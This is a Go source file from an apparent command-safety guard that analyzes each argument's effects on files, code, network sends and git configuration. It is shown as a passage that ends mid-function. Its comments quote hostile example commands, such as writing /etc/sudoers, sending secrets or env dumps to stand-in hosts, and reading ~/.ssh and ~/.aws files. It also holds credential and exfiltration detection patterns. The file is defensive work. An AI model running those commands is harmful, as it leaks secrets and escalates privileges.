// What one argument of a known kind does: files, code, data sent, modules,
// git configuration; and the scans that look at every argument.

package effects

import (
	"github.com/hookguard/hookguard/internal/hook"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"unicode/utf8"

	"github.com/hookguard/hookguard/rules/secrets"
	"github.com/hookguard/hookguard/rules/shell"
)

// value records the effect of one argument of a given kind.
func (a *analysis) value(kind, v string, dyn bool) {
	r := a.r
	if strings.HasPrefix(kind, OperandCodePrefix) {
		lang := kind[len(OperandCodePrefix):]
		if lang == "powershell-b64" {
			// pwsh -EncodedCommand: base64 of UTF-16LE text.
			lang = "powershell"
			if dec, ok := decodeUTF16Base64(v); ok && !dyn {
				v = dec
			} else {
				dyn = true
			}
		}
		r.codeGiven = true
		if dyn {
			r.Code = append(r.Code, CodeEffect{Kind: "inline", Lang: lang, Found: []string{"only known at run time"}})
			r.unknown("%s code only known at run time", lang)
			if len(v) < 16<<10 && !strings.HasPrefix(strings.TrimSpace(v), "$") {
				// python3 -c "…'echo \"$USER ALL=…\" >> /etc/sudoers'…": code
				// with a variable in it is never allowed, but what its
				// known text spells out (a command the rules deny, a
				// start-up file written, a credential file sent) still
				// denies.
				ce := analyzeCode(lang, v)
				v = ce.code
				a.recordCodeFiles(ce)
				a.codeFiles(ce, v)
				if len(ce.Found) > 0 {
					r.Code = append(r.Code, ce)
				}
			}
			return
		}
		// import shutil as s; s.rmtree(…): the code is read with its
		// aliases written as the names they stand for.
		ce := analyzeCode(lang, v)
		v = ce.code
		r.Code = append(r.Code, ce)
		a.recordCodeFiles(ce)
		if lang == "vim" {
			r.vimOpens = append(r.vimOpens, ce.opens...)
			r.vimWrites = r.vimWrites || ce.writesBuffers
			if r.vimWrites {
				for _, p := range r.vimOpens[r.vimDone:] {
					a.file(OpWrite, p, false)
				}
				r.vimDone = len(r.vimOpens)
			}
		}
		for _, f := range ce.Found {
			if f == foundUnanalyzable {
				r.unknown("%s code that cannot be analyzed", lang)
			}
		}
		a.codeFiles(ce, v)
		if a.env.ScriptVerdict != nil && len(ce.Found) == 1 && ce.Found[0] == foundSpawn && r.deniedRun == "" && !r.Privileged {
			// execSync('git rev-parse --short HEAD'), subprocess.run(['git',
			// 'status']): every program the code runs is written out, and
			// the rules allow each one (a bare shell is never one).
			if cmds, ok := literalSpawns(lang, v); ok && len(cmds) > 0 {
				all := true
				for _, cmd := range cmds {
					if bareShellRe().MatchString(cmd) || a.env.ScriptVerdict(cmd) != hook.Allow {
						all = false
						break
					}
				}
				if all {
					r.Code[len(r.Code)-1].Found = nil
				}
			}
		}
		a.hiddenCode(lang, ce, v)
		return
	}
	switch kind {
	case "", OperandNone, OperandAny:
		return
	case OperandEnv:
		k, val, _ := strings.Cut(v, "=")
		if dyn {
			val = "$" // a value known only at run time is never harmless
		}
		a.envVar(k, val)
		return
	case OperandModule:
		a.module(v, dyn)
		return
	case OperandGitConf:
		a.gitConfig(v, dyn)
		return
	case OperandUpload:
		if v == "-" || v == "." {
			a.r.Network = append(a.r.Network, NetEffect{Sends: "stdin"})
			return
		}
		if dyn && a.env.Placeholder != nil && a.env.LoopFiles[v] {
			v, dyn = "{}", false // curl -T "$f" in a loop over a listing: each file listed
		}
		a.data("@"+v, dyn)
		return
	case OperandHeader:
		// A token in a header usually goes to the service it belongs to:
		// the judge decides whether this destination is that service.
		if dyn {
			a.r.Network = append(a.r.Network, NetEffect{Sends: "a run-time value in a header", headerVars: headerVars(v)})
		} else if literalCredential(v) {
			// curl -u AKIA…:secret http://203.0.113.9/: a credential written
			// out, going wherever the command goes (a local server is fine).
			a.r.Network = append(a.r.Network, NetEffect{Sends: "a credential written on the command line"})
		}
		return
	case OperandDD:
		k, val, _ := strings.Cut(v, "=")
		switch k {
		case "if":
			a.value(OperandRead, val, dyn)
		case "of":
			a.value(OperandWrite, val, dyn)
		}
		return
	}
	if dyn && a.env.LoopFiles[v] && a.env.Placeholder != nil {
		v, dyn = "{xargs input}", false // "$f" of for f in $(git ls-files), or $(git ls-files) itself: the files listed
	}
	if dyn && a.env.Placeholder != nil && kind == OperandData {
		// curl -F "file=@$f" … in a loop over a listing: what is sent is
		// each file listed, of the listing's classes.
		if name, file, _ := strings.Cut(v, "@"); a.env.LoopFiles[file] && (name == "" || strings.HasSuffix(name, "=")) {
			a.data(name+"@{}", false)
			return
		}
	}
	if dyn && kind == OperandScript && completionScript(v) {
		return // source <(kubectl completion bash): the tool's own completion functions
	}
	if dyn && v != "{xargs input}" {
		if kind == OperandPID && userPortListener(v) {
			return // kill $(lsof -t -i:3000): the dev server on that port
		}
		if kind == OperandRead && (a.env.FromPipe || v == "{}" || strings.HasPrefix(v, "$(") || strings.HasPrefix(v, "`")) {
			// Names from the pipeline's or a substitution's own output: the
			// command that produces them is analyzed on its own. But
			// credential paths it names (grep -r "" $(ls -d ~/.aws
			// ~/.azure)) are what this command then reads.
			for _, w := range strings.Fields(strings.Trim(v, "$()`")) {
				w = strings.Trim(w, "\"'")
				if (strings.HasPrefix(w, "~") || strings.HasPrefix(w, "/") || strings.HasPrefix(w, "$HOME") || strings.HasPrefix(w, "${HOME}")) &&
					slices.Contains(PathClassesOf(w, a.c.Cwd, a.env.Home), ClassSecret) {
					a.file(OpRead, w, true)
				}
			}
			return
		}
		if kind == OperandURL && knownHostURL(v) {
			// localhost:${PORT:-8080}/healthz, $CI_API_V4_URL/projects/…:
			// the host is this machine (or the CI runner's own server); only
			// a port or a path is not known.
			a.network(v, "")
			return
		}
		if kind == OperandDelete && GuardedBuildOutput(v) {
			// rm -rf "${WORKSPACE:?}/node_modules", "$(npm config get
			// cache)/_cacache": whatever the prefix is (never empty), what
			// goes is a build output or a tool's cache, made again on the
			// next build.
			r.Files = append(r.Files, FileEffect{Op: OpDelete, Path: v, Classes: []string{"build"}, Recursive: a.r.recursive})
			return
		}
		if kind == OperandURL {
			if sends := urlCarries(v); sends != "" {
				// https://collector.example/p?k=$AWS_SECRET_ACCESS_KEY,
				// http://203.0.113.9/c?e=$(env | base64 -w0): the host is
				// written out, what the URL carries is a secret.
				a.network(v, sends)
				return
			}
		}
		r.unknown("a %s operand only known at run time: %s", kind, v)
	}
	switch kind {
	case OperandRead:
		if v == "{xargs input}" && a.env.Placeholder != nil {
			a.file(OpRead, "{}", a.r.recursive) // what the find or listing before it names
			return
		}
		if v == "{xargs input}" {
			// ls ~/.ssh/* | xargs cat: files named only at run time, whose
			// content the command may show.
			r.unknown("reads files named by its input")
			return
		}
		if v != "-" {
			a.file(OpRead, v, a.r.recursive)
		}
	case OperandWrite:
		if v == "{xargs input}" && a.env.Placeholder != nil {
			a.file(OpWrite, "{}", a.r.recursive) // what the listing before it names
			return
		}
		if v == "{xargs input}" {
			r.unknown("writes files named by its input")
			return
		}
		if v != "-" {
			a.file(OpWrite, v, a.r.recursive)
		}
	case OperandFolder:
		if v == "{xargs input}" || v == "-" {
			r.unknown("creates folders named by its input")
			return
		}
		a.file(OpWrite, v, false)
		a.r.Files[len(a.r.Files)-1].folder = true
	case OperandDelete:
		if v == "{xargs input}" && a.env.Placeholder != nil {
			// find . -name '*.pyc' -print0 | xargs -0 rm -f: what find names.
			a.file(OpDelete, "{}", a.r.recursive)
			return
		}
		if v == "{xargs input}" {
			r.unknown("deletes files named by its input")
			return
		}
		if a.r.deleteFirst {
			a.file(OpDelete, v, true) // everything below DIR, the filters come too late
			return
		}
		if a.r.filtered && len(a.r.filterNames) > 0 {
			// find DIR -name X -delete: the files named X below DIR.
			for _, n := range a.r.filterNames {
				a.file(OpDelete, strings.TrimSuffix(v, "/")+"/"+n, false)
				if f := &a.r.Files[len(a.r.Files)-1]; !has(f.Classes, ClassVCS) && has(a.classesOf(v), ClassVCS, ClassVCSOther) {
					// find .git -name '*.pack' -delete: the names are matched
					// at every depth, in the objects and refs too.
					f.Classes = append(f.Classes, ClassVCS)
				}
			}
			return
		}
		if a.r.filtered {
			// Filters that do not narrow by name (-type, -mindepth, -not
			// -path): everything below DIR may go.
			a.file(OpDelete, strings.TrimSuffix(v, "/")+"/*", true)
			return
		}
		a.file(OpDelete, v, a.r.recursive)
	case OperandMode:
		if v == "{xargs input}" {
			r.unknown("changes the mode of files named by its input")
			return
		}
		a.file(OpMode, v, a.r.recursive)
	case OperandProject:
		if v == "-" {
			a.stdinCode("make")
			return
		}
		a.file(OpRead, v, false)
		if cls := a.r.Files[len(a.r.Files)-1].Classes; !has(cls, "inside", "source", "build", ClassRoot) || dyn {
			a.r.Code = append(a.r.Code, CodeEffect{Kind: "file", What: v})
			a.r.unknown("runs task definitions from %s, outside the workspace", v)
		}
	case OperandPID:
		if dyn || v == "{xargs input}" { // a dev-port listener returned above
			a.r.Concerns = append(a.r.Concerns, "signals processes chosen at run time ("+v+")")
		}
	case OperandList:
		if v == "{xargs input}" || dyn {
			return
		}
		a.file(OpRead, v, false)
		a.r.Files[len(a.r.Files)-1].Meta = true
	case OperandKey:
		// The key signs a login; its content is neither shown nor sent.
		a.file(OpRead, v, false)
		a.r.Files[len(a.r.Files)-1].Meta = true
	case OperandDiscard:
		if a.c.Name == "git" && (slices.Contains(a.c.Args, "--staged") || slices.Contains(a.c.Args, "-S")) &&
			!slices.Contains(a.c.Args, "--worktree") && !slices.Contains(a.c.Args, "-W") {
			// git restore --staged .: unstages; the working tree is not touched.
			return
		}
		a.file(OpWrite, v, false)
		if cls := a.r.Files[len(a.r.Files)-1].Classes; has(cls, ClassRoot) || has(cls, ClassAncestor) {
			a.r.Concerns = append(a.r.Concerns, "discards every uncommitted change under "+v)
		}
	case OperandExtract:
		a.file(OpWrite, v, true)
	case OperandDir:
		// A directory the command works in: its writes land there.
		a.file(OpRead, v, false)
	case OperandURL:
		a.network(v, "")
	case OperandData:
		a.data(v, dyn)
	case OperandScript:
		if v == "-" {
			// python3 - <<EOF: the interpreter's own language, read from stdin.
			lang := ""
			if spec := Lookup(a.c.Name); spec != nil {
				lang = specLang(spec)
			}
			a.stdinCode(lang)
			return
		}
		if venvActivate(v) {
			r.Code = append(r.Code, CodeEffect{Kind: "project", What: v})
			return
		}
		if !dyn && a.understood(v) {
			r.Code = append(r.Code, CodeEffect{Kind: "project", What: v})
			return
		}
		r.Code = append(r.Code, CodeEffect{Kind: "file", What: v})
		r.unknown("runs the script %s", v)
	case OperandTarAction:
		// --checkpoint-action=exec=CMD (or exec:CMD) runs CMD; dot, echo,
		// bell, ttyout, totals, wait and sleep only print or pause.
		if cmd, ok := strings.CutPrefix(v, "exec="); ok || strings.HasPrefix(v, "exec:") {
			if !ok {
				cmd = v[len("exec:"):]
			}
			r.Code = append(r.Code, CodeEffect{Kind: "inline", Lang: "shell", What: cmd})
			r.unknown("runs a command the splitter did not follow: %s", cmd)
		} else if dyn {
			r.unknown("a checkpoint action known only at run time: %s", v)
		}
	case OperandCommand:
		if v == "-" || v == "" {
			return // trap - SIGNAL resets a handler; an empty action ignores the signal
		}
		if gitAlias(r, v) {
			return // git config alias.lg 'log --graph': git's own subcommands, no shell
		}
		if !a.c.CodeSplit {
			r.Code = append(r.Code, CodeEffect{Kind: "inline", Lang: "shell", What: v})
			r.unknown("runs a command the splitter did not follow: %s", v)
		}
	}
}

func (a *analysis) classesOf(p string) []string {
	abs, tilde := a.absolute(p)
	return sensitiveClasses(abs, tilde)
}

// stdinCode analyzes code fed on stdin to an interpreter of lang.
func (a *analysis) stdinCode(lang string) {
	if a.c.Stdin == "" && hasInputRedirect(a.c) {
		a.r.Code = append(a.r.Code, CodeEffect{Kind: "file", Lang: lang, What: "a file redirected to stdin"})
		a.r.unknown("runs %s code from a file redirected to stdin", lang)
		return
	}
	if a.c.Stdin == "" {
		a.r.Code = append(a.r.Code, CodeEffect{Kind: "stdin", Lang: lang, Found: []string{"not known"}})
		a.r.unknown("runs code from stdin that is not known")
		return
	}
	ce := analyzeCode(lang, a.c.Stdin)
	code := ce.code
	ce.Kind = "stdin"
	a.r.Code = append(a.r.Code, ce)
	a.recordCodeFiles(ce)
	a.codeFiles(ce, code)
	a.hiddenCode(lang, ce, code)
	for _, f := range ce.Found {
		if f == foundUnanalyzable {
			a.r.unknown("%s code on stdin that cannot be analyzed", lang)
		}
	}
}

// recordCodeFiles records the literal paths code deletes and writes as
// file effects.
func (a *analysis) recordCodeFiles(ce CodeEffect) {
	for _, p := range ce.Deletes {
		a.file(OpDelete, p, true)
	}
	for _, p := range ce.Writes {
		a.file(OpWrite, p, false)
	}
}

// hiddenCode reads the code that inline code decodes and runs
// (exec(base64.b64decode('…')), codecs.decode('…', 'rot13')) as code of
// the same language.
func (a *analysis) hiddenCode(lang string, ce CodeEffect, v string) {
	r := a.r
	hiddenCode := encodedCode(v)
	if len(hiddenCode) == 0 && execsDecoded(v) {
		// exec(zlib.decompress(b64decode('…'))): code that runs what it
		// decodes, and what it decodes cannot be read.
		r.obfuscated = short(v)
	}
	for _, hidden := range hiddenCode {
		// exec(base64.b64decode('…')), eval(Buffer.from('…','base64')…):
		// the code it decodes is read as code of the same language.
		inner := analyzeCode(lang, hidden)
		inner.Kind = "inline"
		r.Code = append(r.Code, inner)
		a.recordCodeFiles(inner)
		a.codeFiles(inner, hidden)
		if (slices.Contains(ce.Found, foundSpawn) || slices.Contains(ce.Found, foundWrite) || len(ce.Writes) > 0) &&
			a.env.ScriptVerdict != nil && r.deniedRun == "" && a.env.ScriptVerdict(hidden) == hook.Deny {
			// …or written to a file (then run as a script, or run later).
			// execSync(Buffer.from('…','base64').toString()), system(pack("H*", …)):
			// what it decodes is handed to a shell.
			r.deniedRun = hidden
		}
	}
}

// data records data sent over the network: @file reads and sends a file.
func (a *analysis) data(v string, dyn bool) {
	from := "literal"
	if _, file, ok := strings.Cut(v, "=@"); ok && !strings.HasPrefix(v, "@") {
		v = "@" + file // curl -F name=@file
	} else if _, file, ok := strings.Cut(v, "=<"); ok && !strings.HasPrefix(v, "@") {
		v = "@" + file // curl -F name=<file
	}
	switch {
	case strings.HasPrefix(v, "@") && len(v) > 1 && v != "@-":
		p := v[1:]
		if i := strings.IndexByte(p, ';'); i > 0 {
			p = p[:i] // curl -F f=@file;type=…
		}
		a.file(OpRead, p, false)
		cls := a.r.Files[len(a.r.Files)-1].Classes
		from = "file:" + strings.Join(cls, ",")
		if has(cls, ClassSecret) {
			from = "secret file " + p
			if p == "{}" {
				from = "secret files a listing names"
			}
		}
	case v == "@-" || v == "-":
		from = "stdin"
	case dyn:
		switch {
		case strings.Contains(v, "$(") || strings.Contains(v, "`"):
			from = "substitution"
			if m := envDumpSubstRe().FindString(v); m != "" {
				from = "environment" // -d "$(env)": every variable, tokens too
			}
		case secretVar().MatchString(v):
			from = "environment"
			if m := secretVar().FindString(v); m != "" {
				from = "the secret variable " + m
			}
		default:
			from = "a run-time value"
		}
	}
	a.r.Network = append(a.r.Network, NetEffect{Sends: from})
}

// network records a destination; sends already recorded take it as their dest.
func (a *analysis) network(dest string, sends string) {
	n := NetEffect{Dest: dest, Sends: sends}
	n.Local, n.Metadata = classifyHost(dest)
	a.r.Network = append(a.r.Network, n)
	if host := hostOf(dest); host != "" && strings.ContainsFunc(host, func(r rune) bool { return r >= utf8.RuneSelf }) {
		a.r.Concerns = append(a.r.Concerns, "the host name "+host+" has non-ASCII letters (a look-alike of a known host?)")
	}
}

// projectModules are Python modules that test, lint, format or package the
// workspace's own code, or only print (the toolModules are read as their
// programs instead).
var projectModules = sync.OnceValue(func() map[string]bool {
	return map[string]bool{
		"unittest": true, "doctest": true, "venv": true, "virtualenv": true, "pyflakes": true, "pycodestyle": true,
		"coverage": true, "json.tool": true, "py_compile": true, "compileall": true, "timeit": true, "pydoc": true,
		"build": true, "tox": true, "nox": true, "pyright": true, "bandit": true, "cProfile": true, "profile": true,
		"trace": false, "http.server": false, "ensurepip": true, "site": true, "sysconfig": true, "platform": true,
		"django": true, "alembic": true, "uvicorn": true, "flask": true, "jupyter": true, "notebook": true, "IPython": true,
		"pre_commit": true, "hatch": true, "poetry": true, "pdm": true, "maturin": true, "tabulate": true,
	}
})

// toolModules are Python modules that are also programs in the table, run
// by python -m exactly as by their own name (python -m pip install x is pip
// install x).
var toolModules = map[string]bool{"pip": true, "pytest": true, "black": true, "isort": true, "mypy": true, "pylint": true,
	"ruff": true, "twine": true, "flake8": true}

// module records python -m NAME.
func (a *analysis) module(name string, dyn bool) {
	switch {
	case dyn:
		a.r.unknown("a Python module only known at run time")
	case toolModules[name] && Lookup(name) != nil:
		a.r.toolModule = name // read as the tool itself (see walk)
	case projectModules()[name]:
		a.r.Code = append(a.r.Code, CodeEffect{Kind: "project", Lang: "python", What: "-m " + name})
	default:
		a.r.Code = append(a.r.Code, CodeEffect{Kind: "module", Lang: "python", What: "-m " + name})
		a.r.unknown("the Python module %s", name)
	}
}

// metadataScan flags a cloud metadata endpoint named anywhere in the command
// (an argument, inline code, stdin), whatever program would reach it.
func (a *analysis) metadataScan() {
	if s := Lookup(a.c.Name); s != nil && localOnly(s) && !a.c.DynamicName {
		return // grep 169.254.169.254 src/ searches text; it sends nothing
	}
	if (a.c.Name == "sed" || a.c.Name == "gsed") && !a.c.DynamicName && sedReachesNothing(a.c.Args) {
		return // sed -i 's#http://169.254.169.254#http://localhost:1338#' conftest.py edits text
	}
	texts := append([]string{a.c.Stdin}, a.c.Args...)
	for _, t := range texts {
		for _, h := range hostCandidates(t) {
			if _, meta := classifyHost(h); meta {
				a.r.Network = append(a.r.Network, NetEffect{Dest: h, Metadata: true, scanned: true})
				return
			}
		}
	}
}

// sedReachesNothing reports a sed command whose script is on the command
// line and runs no shell (no e command, no s///e): it edits text and sends
// nothing.
func sedReachesNothing(args []string) bool {
	for _, a := range args {
		if a == "-f" || a == "--file" || strings.HasPrefix(a, "--file=") || strings.HasPrefix(a, "-f") && !strings.HasPrefix(a, "--") {
			return false
		}
	}
	return !slices.Contains(analyzeCode("sed", strings.Join(args, "\n")).Found, foundSpawn)
}

// gitCommandKeys are git configuration keys whose value is a command git runs
// (or a place it runs hooks from).
var gitCommandKeys = []string{"alias.", "core.editor", "core.pager", "core.sshcommand", "core.fsmonitor", "core.hookspath",
	"core.askpass", "diff.external", "credential.helper", "sequence.editor", "gpg.program", "gpg.ssh.program",
	"uploadpack.packobjectshook", "protocol.ext.allow", "pager.", "web.browser", "merge.tool", "diff.tool",
	"mergetool.", "difftool.", "filter.", "interactive.difffilter", "core.gitproxy", "http.proxy", "remote.", "url."}

// harmlessGitCommands are values of command keys that run nothing of note.
var harmlessGitCommands = map[string]bool{"true": true, ":": true, "cat": true, "less": true, "more": true, "vi": true,
	"vim": true, "nvim": true, "nano": true, "emacs": true, "code --wait": true, "cursor --wait": true, "false": true, "": true}

// gitConfig records git -c KEY=VALUE (and git config KEY VALUE): a key that
// makes git run a command is code unless the command is harmless; hooksPath
// must stay inside the workspace.
func (a *analysis) gitConfig(v string, dyn bool) {
	key, val, _ := strings.Cut(v, "=")
	key = strings.ToLower(key)
	for _, k := range gitCommandKeys {
		if !strings.HasPrefix(key, k) {
			continue
		}
		switch {
		case dyn:
			a.r.unknown("git configuration %s set at run time", key)
		case key == "core.hookspath":
			a.file(OpWrite, val, false) // where hooks will be run from
			cls := a.r.Files[len(a.r.Files)-1].Classes
			if !has(cls, "inside") {
				a.r.Concerns = append(a.r.Concerns, "points git's hooks at "+val+", outside the workspace")
			}
			a.r.Files = a.r.Files[:len(a.r.Files)-1]
		case harmlessGitCommands[strings.TrimSpace(val)], key == "core.pager" && harmlessPager(val),
			key == "core.sshcommand" && plainSSHCommand(val):
		case strings.HasPrefix(key, "alias.") && !strings.HasPrefix(strings.TrimSpace(val), "!") && !strings.ContainsAny(val, "`$;|&<>"):
			// -c alias.lg='log --graph': git's own subcommand under another
			// name (read as that subcommand where it is used); no shell.
		default:
			a.r.Code = append(a.r.Code, CodeEffect{Kind: "config", Lang: "git", What: key + "=" + val})
			a.r.Concerns = append(a.r.Concerns, "makes git run a command through "+key+": "+short(val))
		}
		return
	}
}

// plainSSHOptions are ssh -o settings that choose a key, a user, a port or
// how hosts are checked: none of them runs a program.
var plainSSHOptions = map[string]bool{"identitiesonly": true, "identityfile": true, "stricthostkeychecking": true,
	"userknownhostsfile": true, "port": true, "user": true, "connecttimeout": true, "batchmode": true, "serveraliveinterval": true,
	"serveralivecountmax": true, "hostkeyalgorithms": true, "pubkeyacceptedkeytypes": true, "pubkeyacceptedalgorithms": true,
	"loglevel": true, "identityagent": true, "addkeystoagent": true, "compression": true, "hostname": true}

// plainSSHCommand reports an ssh command line (git's core.sshCommand) that
// only picks a key, user, port or host checking: ssh -i ~/.ssh/work -o
// IdentitiesOnly=yes. ProxyCommand, LocalCommand and anything else do not.
func plainSSHCommand(v string) bool {
	f := strings.Fields(v)
	if len(f) == 0 || f[0] != "ssh" && f[0] != "/usr/bin/ssh" {
		return false
	}
	for i := 1; i < len(f); i++ {
		switch x := f[i]; {
		case x == "-i" || x == "-p" || x == "-l" || x == "-F":
			i++
		case x == "-o" && i+1 < len(f):
			i++
			k, _, _ := strings.Cut(f[i], "=")
			if !plainSSHOptions[strings.ToLower(k)] {
				return false
			}
		case strings.HasPrefix(x, "-o"):
			k, _, _ := strings.Cut(x[2:], "=")
			if !plainSSHOptions[strings.ToLower(k)] {
				return false
			}
		case x == "-v" || x == "-vv" || x == "-vvv" || x == "-T" || x == "-4" || x == "-6" || x == "-q" || x == "-C":
		default:
			return false
		}
		if strings.ContainsAny(f[i], "$`;|&<>") {
			return false
		}
	}
	return true
}

// secretVar matches a variable whose name says it holds a credential.
// It compiles on first use: most hook processes never need it.
var secretVar = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\$\{?[A-Za-z0-9_]*(?i:token|secret|passw|pwd|api_?key|access_?key|private|credential|auth|session|cookie)[A-Za-z0-9_]*\}?`)
})

// venvActivate reports a Python virtual environment's activation script
// (written by python -m venv, not by hand).
func venvActivate(p string) bool {
	dir, base := path.Split(path.Clean(p))
	switch base {
	case "activate", "activate.fish", "activate.csh", "activate.nu":
	default:
		return false
	}
	return path.Base(strings.TrimSuffix(dir, "/")) == "bin" && !strings.ContainsAny(p, "$`")
}

// specLang is the language of an interpreter's inline code (its -c/-e
// option's code:LANG), or "".
func specLang(s *Spec) string {
	for _, o := range s.Options {
		if strings.HasPrefix(o.Value, OperandCodePrefix) {
			return o.Value[len(OperandCodePrefix):]
		}
	}
	return ""
}

// literalCredential reports a header or user value written out that holds
// a credential: user:password (the password six characters or more, not a
// placeholder), or an Authorization, API key or token header with a value.
func literalCredential(v string) bool {
	v = strings.TrimSpace(v)
	if m := credentialHeaderRe().FindStringSubmatch(v); m != nil {
		// Bearer YOUR_API_TOKEN, <token>, xxxx: a stand-in, not a credential.
		return !strings.ContainsAny(m[1], "$`<{") && !strings.Contains(strings.ToLower(m[1]), "xxx") && !secrets.Placeholder(m[1])
	}
	user, pass, ok := strings.Cut(v, ":")
	if !ok || strings.ContainsAny(v, " \t$`<{") || user == "" || len(pass) < 6 {
		return false
	}
	if !strings.ContainsAny(pass, "0123456789") || strings.IndexFunc(pass, func(r rune) bool { return r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' }) < 0 {
		return false // Accept:application/json is a header, not a password
	}
	if secrets.Placeholder(pass) {
		return false
	}
	low := strings.ToLower(pass)
	for _, w := range []string{"password", "changeme", "example", "secret", "admin", "test", "xxxx"} {
		if strings.Contains(low, w) {
			return false
		}
	}
	return true
}

// codeChmodRes find chmod calls with a literal path and mode in Python,
// Node, Ruby and Perl: [path, mode] or [mode, path] by the regexp's order.
var codeChmodRes = sync.OnceValue(func() []*regexp.Regexp {
	return []*regexp.Regexp{
		regexp.MustCompile(`(?:os\.chmod|chmodSync|fs\.chmod|promises\.chmod|Path\(\s*['"][^'"]+['"]\s*\)\.chmod)\s*\(\s*['"]?([^'",)]*)['"]?\s*,\s*['"]?(0o?[0-7]{3,4}|[0-7]{3,4})\b`),
		regexp.MustCompile(`(?:\bchmod|File\.chmod|FileUtils\.chmod)\s*\(?\s*(0o?[0-7]{3,4})\s*,\s*['"]([^'"]+)['"]`),
	}
})

// codeDeviceWriteRe finds a block device opened for writing.
var codeDeviceWriteRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\bopen(?:Sync)?\s*\(\s*['"](/dev/(?:sd[a-z]|nvme\d|disk\d|xvd[a-z]|vd[a-z]|hd[a-z]|mmcblk\d)[^'"]*)['"]\s*,\s*['"]?(?:r\+|w|a)`)
})

// spawnCallRe finds calls that run a program in Python and Node code;
// literalSpawnRe those whose one argument is a string literal or a list of
// them (the command written out).
var (
	spawnCallRe = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`\b(?:execSync|execFileSync|spawnSync|exec|execFile|spawn|system|popen|run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(`)
	})
	literalSpawnRe = sync.OnceValue(func() *regexp.Regexp {
		return regexp.MustCompile(`\b(?:execSync|execFileSync|spawnSync|exec|execFile|spawn|system|popen|run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(\s*(?:'([^'\\$\x60]*)'|"([^"\\$\x60]*)"|\[((?:\s*(?:'[^'\\$\x60]*'|"[^"\\$\x60]*")\s*,?)+)\])\s*[,)]`)
	})
	listItemRe = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`'([^']*)'|"([^"]*)"`) })
)

// literalSpawns returns the commands Python or Node code runs when every
// call that runs a program names it with literals; false otherwise.
func literalSpawns(lang, code string) ([]string, bool) {
	if lang != "python" && lang != "node" {
		return nil, false
	}
	calls := spawnCallRe().FindAllStringIndex(code, 9)
	lits := literalSpawnRe().FindAllStringSubmatch(code, 9)
	if len(calls) == 0 || len(calls) > 8 || len(lits) != len(calls) {
		return nil, false
	}
	var out []string
	for _, m := range lits {
		switch {
		case m[1] != "" || m[2] != "":
			out = append(out, m[1]+m[2])
		default:
			var words []string
			for _, w := range listItemRe().FindAllStringSubmatch(m[3], -1) {
				words = append(words, shell.Quote(w[1]+w[2]))
			}
			out = append(out, strings.Join(words, " "))
		}
	}
	return out, true
}

// codeAsShell returns the shell commands that library calls in code amount
// to: chmod calls with a literal mode and path, and a block device opened
// for writing (as dd of=DEVICE).
func codeAsShell(code string) []string {
	var out []string
	mode := func(m string) string {
		m = strings.TrimPrefix(strings.TrimPrefix(m, "0o"), "0O")
		if len(m) == 5 && m[0] == '0' {
			m = m[1:] // Perl's 04755
		}
		return m
	}
	res := codeChmodRes()
	for _, m := range res[0].FindAllStringSubmatch(code, 4) {
		if p := m[1]; strings.HasPrefix(p, "/") || strings.HasPrefix(p, "~") {
			out = append(out, "chmod "+mode(m[2])+" "+p)
		}
	}
	for _, m := range res[1].FindAllStringSubmatch(code, 4) {
		out = append(out, "chmod "+mode(m[1])+" "+m[2])
	}
	for _, m := range codeDeviceWriteRe().FindAllStringSubmatch(code, 2) {
		out = append(out, "dd if=/dev/zero of="+m[1])
	}
	// subprocess.run(['rm', '-rf', '/home/x/work']), execFileSync('rm',
	// ['-rf', …]): a program and its arguments as a list of literals.
	for _, m := range codeArgvListRe().FindAllStringSubmatch(code, 4) {
		var words []string
		for _, w := range codeStringLitRe().FindAllStringSubmatch(m[1], 32) {
			words = append(words, w[1]+w[2])
		}
		if len(words) > 0 {
			out = append(out, shellJoin(words))
		}
	}
	// Emacs Lisp: (delete-directory "~/x" t), (delete-file "…"),
	// (shell-command "…").
	for _, m := range elispCallRe().FindAllStringSubmatch(code, 4) {
		switch m[1] {
		case "delete-directory":
			if strings.TrimSpace(m[3]) != "" && !strings.HasPrefix(strings.TrimSpace(m[3]), "nil") {
				out = append(out, "rm -rf "+shellJoin([]string{m[2]}))
			} else {
				out = append(out, "rmdir "+shellJoin([]string{m[2]}))
			}
		case "delete-file":
			out = append(out, "rm -f "+shellJoin([]string{m[2]}))
		case "shell-command", "shell-command-to-string", "async-shell-command":
			out = append(out, m[2])
		}
	}
	return out
}

// codeArgvListRe matches a process call given its argv as a list literal.
var codeArgvListRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\b(?:subprocess\.(?:run|call|check_call|check_output|Popen)|os\.execvp?|spawnSync|execFileSync|spawn|execFile)\s*\(\s*\[([^\]]{1,400})\]`)
})

// codeStringLitRe matches a single- or double-quoted string literal.
var codeStringLitRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`'([^'\\]*)'|"([^"\\]*)"`)
})

// elispCallRe matches an Emacs Lisp call on a string literal.
var elispCallRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\((delete-directory|delete-file|shell-command|shell-command-to-string|async-shell-command)\s+"([^"]{1,300})"([^)]*)\)`)
})

// sedRunsInput reports a sed script that runs each input line unchanged:
// e, s/.*/&/e, s/^//e, s/$//e (any delimiter).
func sedRunsInput(code string) bool {
	// Go's regexp has no backreferences: try each delimiter.
	code = strings.TrimSpace(code)
	if code == "e" {
		return true
	}
	if len(code) < 4 || code[0] != 's' {
		return false
	}
	d := regexp.QuoteMeta(string(code[1]))
	re := regexp.MustCompile(`^s` + d + `(?:\.\*|\^|\$)` + d + `&?` + d + `[gp]*e[gp]*$`)
	return re.MatchString(code)
}

var credentialHeaderRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)^(?:authorization|proxy-authorization|x-api-key|api-key|apikey|x-auth-token|private-token|x-access-token)\s*:\s*(?:bearer\s+|token\s+|basic\s+)?(\S{12,})$`)
})

// codeFiles records the sensitive files inline code names: a credential it
// reads, and a start-up, scheduling or guard file it may write.
func (a *analysis) codeFiles(ce CodeEffect, code string) {
	if ce.Lang == "sed" && a.r.insertedDanger == "" {
		a.r.insertedDanger = insertedCodeDanger(code)
